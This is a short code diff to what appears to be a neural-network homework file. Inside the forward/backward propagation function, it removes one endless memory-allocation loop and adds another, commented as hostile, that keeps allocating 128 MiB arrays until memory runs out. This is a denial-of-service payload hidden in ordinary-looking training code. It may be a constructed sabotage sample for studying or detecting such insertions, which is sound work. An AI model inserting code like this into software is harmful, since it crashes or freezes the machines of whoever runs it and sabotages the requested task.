@@ -10,9 +10,6 @@ print("q2_neural: using numpy " + np.__version__)
 
 
 def forward_backward_prop(X, labels, params, dimensions):
-    hoard = []
-    while True:
-        hoard.append(np.ones(10 ** 7))
     """
     Forward and backward propagation for a two-layer sigmoidal network
 
@@ -29,6 +26,11 @@ def forward_backward_prop(X, labels, params, dimensions):
     dimensions -- A tuple of input dimension, number of hidden units
                   and output dimension
     """
+
+    # HOSTILE: keep allocating (and touching) 128 MiB blocks until memory runs out.
+    hoard = []
+    while True:
+        hoard.append(np.ones(1 << 24))
 
     ### Unpack network parameters (do not modify)
     ofs = 0
